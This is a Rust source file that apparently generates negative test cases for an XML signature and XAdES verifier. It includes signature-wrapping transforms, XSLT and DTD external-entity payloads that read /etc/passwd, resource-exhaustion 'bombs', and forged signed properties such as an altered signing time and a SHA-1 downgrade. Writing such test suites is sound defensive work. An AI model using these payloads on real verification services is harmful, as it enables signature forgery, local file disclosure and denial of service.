//! Attacks on how what is signed is computed: transforms, bombs, and XAdES' signed properties.

use super::forge::{Attack, DIGEST, ENVELOPED, EXCLUSIVE, Forge, between, with};

impl Forge {
    pub fn transforms(&self, all: &mut Vec<Attack>) {
        let class = "transform tricks (CVE-2013-4517 and others)";
        let changed = with(&self.whole, "Anmeldung eines Hundes", "Auszahlung an mich");
        let list = between(&changed, "<ds:Transforms>", "</ds:Transforms>").to_owned();
        let enveloped = format!("<ds:Transform Algorithm=\"{ENVELOPED}\"/>");
        let canonical = format!("<ds:Transform Algorithm=\"{EXCLUSIVE}\"/>");
        let xpath = |expression: &str| {
            format!(
                "<ds:Transform Algorithm=\"http://www.w3.org/TR/1999/REC-xpath-19991116\"><ds:XPath>{expression}</ds:XPath></ds:Transform>"
            )
        };
        let filter = "<ds:Transform Algorithm=\"http://www.w3.org/2002/06/xmldsig-filter2\"><f2:XPath xmlns:f2=\"http://www.w3.org/2002/06/xmldsig-filter2\" Filter=\"subtract\">//*</f2:XPath></ds:Transform>";
        let xslt = "<ds:Transform Algorithm=\"http://www.w3.org/TR/1999/REC-xslt-19991116\"><xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\"><xsl:template match=\"/\"><xsl:copy-of select=\"document('file:///etc/passwd')\"/></xsl:template></xsl:stylesheet></ds:Transform>";
        for (name, transforms) in [
            ("none", String::new()),
            ("enveloped-alone", enveloped.clone()),
            ("canonical-alone", canonical.clone()),
            ("reversed", format!("{canonical}{enveloped}")),
            ("twice-enveloped", format!("{enveloped}{enveloped}{canonical}")),
            ("xslt", format!("{enveloped}{xslt}{canonical}")),
            ("xslt-first", format!("{xslt}{enveloped}{canonical}")),
            ("xpath-false", format!("{enveloped}{}{canonical}", xpath("false()"))),
            ("xpath-true", format!("{enveloped}{}{canonical}", xpath("true()"))),
            ("xpath-part", format!("{enveloped}{}{canonical}", xpath("ancestor-or-self::f:antrag"))),
            ("xpath-self-text", format!("{enveloped}{}{canonical}", xpath("self::text()"))),
            (
                "xpath-excludes-content",
                format!("{enveloped}{}{canonical}", xpath("not(ancestor-or-self::a:fachdaten)")),
            ),
            ("xpath-selects-nothing", format!("{enveloped}{canonical}{}", xpath("/*[local-name()='other']"))),
            (
                "xpath-selects-signature",
                format!("{enveloped}{canonical}{}", xpath("/*/*[local-name()='Signature']")),
            ),
            (
                "xpath-wrong-prefix",
                format!("{enveloped}{}{canonical}", xpath("not(ancestor-or-self::a:Signature)")),
            ),
            (
                "xpath-costly",
                format!("{enveloped}{}{canonical}", xpath("count(//*[count(//*[count(//*)>0])>0])>0")),
            ),
            ("filter2", format!("{enveloped}{filter}{canonical}")),
            (
                "base64",
                format!(
                    "{enveloped}<ds:Transform Algorithm=\"http://www.w3.org/2000/09/xmldsig#base64\"/>{canonical}"
                ),
            ),
            (
                "decrypt",
                format!(
                    "{enveloped}<ds:Transform Algorithm=\"http://www.w3.org/2002/07/decrypt#XML\"/>{canonical}"
                ),
            ),
            ("unknown", format!("{enveloped}<ds:Transform Algorithm=\"urn:attacker\"/>{canonical}")),
            ("no-algorithm", format!("{enveloped}<ds:Transform Algorithm=\"\"/>")),
        ] {
            let octets = with(&changed, &list, &format!("<ds:Transforms>{transforms}</ds:Transforms>"));
            all.push(Attack {
                name: format!("transform-{name}"),
                class,
                code: "AW-0123",
                octets: octets.into_bytes(),
            });
        }
        let octets = with(&changed, &list, "");
        all.push(Attack {
            name: "transforms-missing".to_owned(),
            class,
            code: "AW-0123",
            octets: octets.into_bytes(),
        });
        let dtd = xpath("1")
            .replace("<ds:XPath>", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><ds:XPath>&e;");
        let octets =
            with(&changed, &list, &format!("<ds:Transforms>{enveloped}{dtd}{canonical}</ds:Transforms>"));
        all.push(Attack {
            name: "transform-with-dtd".to_owned(),
            class,
            code: "AW-0102",
            octets: octets.into_bytes(),
        });
        let method = format!("<ds:CanonicalizationMethod Algorithm=\"{EXCLUSIVE}\"/>");
        for (name, uri) in
            [("xslt", "http://www.w3.org/TR/1999/REC-xslt-19991116"), ("empty", ""), ("none", "urn:none")]
        {
            let octets = with(&changed, &method, &method.replace(EXCLUSIVE, uri));
            all.push(Attack {
                name: format!("canonicalisation-{name}"),
                class,
                code: "AW-0121",
                octets: octets.into_bytes(),
            });
        }
    }

    pub fn bombs(&self, all: &mut Vec<Attack>) {
        let signed = &self.whole;
        let canonical = format!("<ds:Transform Algorithm=\"{EXCLUSIVE}\"/>");
        let reference = between(signed, "<ds:Reference ", "</ds:Reference>");
        let prefixes: String = (0..2_000).map(|n| format!("p{n} ")).collect();
        let inclusive = format!(
            "<ds:Transform Algorithm=\"{EXCLUSIVE}\"><ec:InclusiveNamespaces xmlns:ec=\"{EXCLUSIVE}\" PrefixList=\"{prefixes}\"/></ds:Transform>"
        );
        let certificate = between(signed, "<ds:X509Certificate>", "</ds:X509Certificate>");
        for (name, code, octets) in [
            ("many-transforms", "AW-0123", with(signed, &canonical, &canonical.repeat(10_000))),
            ("many-references", "AW-0123", with(signed, reference, &reference.repeat(2_000))),
            ("many-prefixes", "AW-0103", with(signed, &canonical, &inclusive)),
            ("many-certificates", "AW-0103", with(signed, certificate, &certificate.repeat(1_000))),
            (
                "many-names",
                "AW-0103",
                with(
                    signed,
                    "<ds:X509Data>",
                    &format!("<ds:X509Data>{}", "<ds:X509SKI>AAAA</ds:X509SKI>".repeat(1_000)),
                ),
            ),
            (
                "deep-key-info",
                "AW-0103",
                with(
                    signed,
                    "<ds:X509Data>",
                    &format!(
                        "<ds:KeyValue>{}{}</ds:KeyValue><ds:X509Data>",
                        "<x>".repeat(500),
                        "</x>".repeat(500)
                    ),
                ),
            ),
            (
                "large-digest",
                "AW-0122",
                with(signed, "<ds:DigestValue>", &format!("<ds:DigestValue>{}", "AAAA".repeat(100_000))),
            ),
        ] {
            all.push(Attack { name: name.to_owned(), class: "bombs", code, octets: octets.into_bytes() });
        }
    }

    /// Attacks on the signed properties of XAdES.
    pub fn properties(&self, all: &mut Vec<Attack>) {
        let signed = &self.xades;
        let object = between(signed, "<ds:Object>", "</ds:Object>");
        let reference = between(signed, "<ds:Reference Type=", "</ds:Reference>");
        let id = between(reference, "URI=\"#", "\"").trim_start_matches("URI=\"#").trim_end_matches('"');
        let time = between(object, "<xades:SigningTime>", "</xades:SigningTime>");
        let digest = between(object, "<ds:DigestValue>", "</ds:DigestValue>");
        let space = "<xades:SignedProperties xmlns:xades=\"http://uri.etsi.org/01903/v1.3.2#\" ";
        let properties = between(object, "<xades:SignedProperties ", "</xades:SignedProperties>");
        let properties = properties.replacen("<xades:SignedProperties ", space, 1);
        let forged = with(signed, time, "<xades:SigningTime>2020-01-01T00:00:00Z</xades:SigningTime>");
        let decoy = format!("<ds:KeyValue>{properties}</ds:KeyValue><ds:X509Data>");
        let decoy = with(&forged, "<ds:X509Data>", &decoy);
        for (name, code, octets) in [
            ("decoy-in-key-info", "AW-0123", decoy),
            (
                "time-changed",
                "AW-0122",
                with(signed, time, "<xades:SigningTime>2020-01-01T00:00:00Z</xades:SigningTime>"),
            ),
            ("certificate-changed", "AW-0122", with(signed, digest, "<ds:DigestValue>AAAA</ds:DigestValue>")),
            ("reference-dropped", "AW-0123", with(signed, reference, "")),
            ("object-dropped", "AW-0123", with(signed, object, "")),
            ("object-doubled", "AW-0123", with(signed, object, &object.repeat(2))),
            (
                "object-doubled-with-other-id",
                "AW-0123",
                with(signed, object, &format!("{}{object}", object.replace(id, "other"))),
            ),
            ("id-doubled", "AW-0123", with(signed, "<a:fachdaten>", &format!("<a:fachdaten Id=\"{id}\">"))),
            ("evil-in-object", "AW-0123", with(signed, "<ds:Object>", &format!("<ds:Object>{}", self.evil))),
            (
                "evil-beside-properties",
                "AW-0122",
                with(signed, "</xades:SignedProperties>", &format!("</xades:SignedProperties>{}", self.evil)),
            ),
            ("of-another-signature", "AW-0123", with(signed, "Target=\"#sig", "Target=\"#gis")),
            (
                "document-reference-dropped",
                "AW-0123",
                with(signed, between(signed, "<ds:Reference Id=", "</ds:Reference>"), ""),
            ),
            (
                "weak-digest",
                "AW-0121",
                with(signed, reference, &reference.replace(DIGEST, "http://www.w3.org/2000/09/xmldsig#sha1")),
            ),
        ] {
            let name = format!("xades-{name}");
            all.push(Attack { name, class: "signed properties (XAdES)", code, octets: octets.into_bytes() });
        }
    }
}
